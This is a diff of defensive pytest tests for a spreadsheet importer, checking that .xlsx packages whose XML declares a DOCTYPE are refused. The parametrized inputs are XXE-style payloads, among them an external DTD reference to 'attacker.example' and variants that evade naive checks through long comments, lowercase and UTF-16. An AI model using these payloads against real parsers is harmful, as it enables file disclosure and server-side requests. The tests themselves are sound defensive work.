@@ -290,6 +290,28 @@ def test_many_small_parts_adding_up_to_more_than_50_mb_are_refused():
     assert message_of(bomb, "bomb.xlsx", max_bytes=10 * MB) == "The spreadsheet is too large when uncompressed."
 
 
+@pytest.mark.parametrize("part", [
+    b'<?xml version="1.0"?><!-- ' + b"x" * 8000 + b' --><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',  # past 4 KB
+    b'<?xml version="1.0"?>\n<!doctype x SYSTEM "http://attacker.example/x.dtd"><x/>',  # lower case
+    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16"),  # another encoding
+    b'<?xml version="1.0"?><!-- ' + b"x" * (70 * 1024) + b" --><x/>",  # no first element in 64 KB
+])
+def test_a_document_type_anywhere_before_the_first_element_is_refused(part):
+    with pytest.raises(tabular.PackageError) as refused:
+        tabular.check_package(zip_bytes({"xl/workbook.xml": part}))
+    assert refused.value.reason == tabular.PackageError.DTD
+    refused_import = message_of(zip_bytes({"xl/workbook.xml": part}), "dtd.xlsx")
+    assert refused_import == "The file is not a CSV or Excel (.xlsx) file."
+
+
+def test_a_package_is_checked_for_the_main_part_of_its_kind():
+    workbook = xlsx([["Name"], ["A"]])
+    tabular.check_package(workbook, main_part="xl/workbook.xml")
+    with pytest.raises(tabular.PackageError) as refused:
+        tabular.check_package(workbook, main_part="word/document.xml")
+    assert refused.value.reason == tabular.PackageError.NO_MAIN_PART
+
+
 def test_a_zip_with_too_many_entries_is_refused():
     parts = {f"xl/media/p{i}.bin": b"x" for i in range(1_001)}
     assert message_of(zip_bytes(parts), "many.xlsx") == "The spreadsheet is too large when uncompressed."
